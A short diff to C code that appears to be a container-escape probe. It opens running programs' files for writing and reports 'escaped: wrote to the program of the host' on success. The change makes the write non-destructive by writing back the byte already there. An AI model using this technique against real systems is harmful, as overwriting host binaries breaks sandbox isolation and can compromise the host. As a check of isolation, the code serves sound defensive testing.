@@ -84,10 +84,10 @@ static void keep_program(const char *pid)
 		programs[n_programs++] = fd;
 }
 
-/* Refused while somebody runs it: again and again. */
+/* Refused while somebody runs it: again and again. What is hit may be the machine's: the byte that is there is written. */
 static void write_to_programs(void)
 {
-	char path[320];
+	char path[320], byte;
 
 	for (size_t i = 0; i < n_programs; i++) {
 		int fd;
@@ -96,7 +96,7 @@ static void write_to_programs(void)
 		fd = open(path, O_WRONLY | O_CLOEXEC);
 		if (fd < 0)
 			continue;
-		if (pwrite(fd, "x", 1, 0) == 1)
+		if (pread(programs[i], &byte, 1, 0) == 1 && pwrite(fd, &byte, 1, 0) == 1)
 			printf("escaped: wrote to the program of the host\n");
 		(void)close(fd);
 	}
